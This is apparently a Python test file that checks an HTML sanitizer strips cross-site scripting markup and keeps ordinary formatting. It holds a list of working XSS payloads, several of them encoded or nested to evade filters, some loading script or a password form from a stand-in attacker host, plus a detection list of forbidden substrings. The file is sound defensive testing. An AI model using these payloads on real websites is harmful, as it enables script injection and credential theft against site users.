"""The one HTML allow-list: hostile markup never survives, ordinary formatting always does."""

from __future__ import annotations

import pytest

from scriptorium.core.sanitize import sanitize_html
from scriptorium.core.text import user_text_to_html

HOSTILE = [
    "<script>alert(1)</script>",
    '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<p onclick="alert(1)">click</p>',
    '<div onmouseover="alert(1)">hover</div>',
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">link</a>',
    '<a href="java&#x09;script:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="javascript:alert(1)">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body { display: none }</style>",
    '<p style="background: url(javascript:alert(1))">styled</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example/"><input name="password" type="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<p id="main">hijack the skip link</p>',
    "<!-- <script>alert(1)</script> -->",
]

#: Strings that must not appear in the cleaned output (compared in lower case).
FORBIDDEN = (
    "<script",
    "</script",
    "onerror",
    "onclick",
    "onload",
    "onmouseover",
    "javascript:",
    "vbscript:",
    "data:",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "style=",
    "<link",
    "<svg",
    "<math",
    "<form",
    "<input",
    "<button",
    "<meta",
    "<base",
    "srcdoc",
    "id=",
    "<!--",
    "<body",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markup_does_not_survive(hostile: str) -> None:
    for cleaned in (sanitize_html(hostile), user_text_to_html(hostile), user_text_to_html(f"<p>Hi</p>{hostile}")):
        lowered = cleaned.lower()
        for bad in FORBIDDEN:
            # Escaped text ("&lt;script&gt;") is harmless words on the page; only live markup counts.
            assert bad not in lowered or "&lt;" in lowered, (hostile, cleaned)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markup_is_dropped_not_just_escaped(hostile: str) -> None:
    lowered = sanitize_html(hostile).lower()
    for bad in FORBIDDEN:
        assert bad not in lowered, (hostile, lowered)


KEPT = [
    ("<p>A paragraph.</p>", "<p>A paragraph.</p>"),
    (
        "<p><em>em</em> <strong>strong</strong> <i>i</i> <b>b</b> <u>u</u> <s>s</s></p>",
        "<p><em>em</em> <strong>strong</strong> <i>i</i> <b>b</b> <u>u</u> <s>s</s></p>",
    ),
    (
        '<a href="https://example.org/path?q=1">link</a>',
        '<a href="https://example.org/path?q=1" rel="nofollow noopener noreferrer">link</a>',
    ),
    ('<a href="/works/1">relative</a>', '<a href="/works/1" rel="nofollow noopener noreferrer">relative</a>'),
    (
        '<a href="mailto:me@example.org">mail</a>',
        '<a href="mailto:me@example.org" rel="nofollow noopener noreferrer">mail</a>',
    ),
    ("<blockquote><p>Quoted.</p></blockquote>", "<blockquote><p>Quoted.</p></blockquote>"),
    ("line one<br>line two<br />line three", "line one<br>line two<br>line three"),
    ('<p align="center">* * *</p><hr>', '<p align="center">* * *</p><hr>'),
    (
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>',
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>',
    ),
    ('<img src="https://example.org/a.png" alt="A map">', '<img src="https://example.org/a.png" alt="A map">'),
    ("<h2>Part Two</h2><p>x<sup>2</sup> H<sub>2</sub>O</p>", "<h2>Part Two</h2><p>x<sup>2</sup> H<sub>2</sub>O</p>"),
    ('<span class="dropcap" lang="fr">É</span>', '<span class="dropcap" lang="fr">É</span>'),
]


@pytest.mark.parametrize(("html", "expected"), KEPT)
def test_ordinary_formatting_is_kept(html: str, expected: str) -> None:
    assert sanitize_html(html) == expected


@pytest.mark.parametrize("html", [html for html, _ in KEPT] + HOSTILE)
def test_sanitizing_twice_changes_nothing(html: str) -> None:
    once = sanitize_html(html)
    assert sanitize_html(once) == once


def test_empty_input_gives_empty_output() -> None:
    assert sanitize_html("") == ""
    assert sanitize_html("<script></script>") == ""
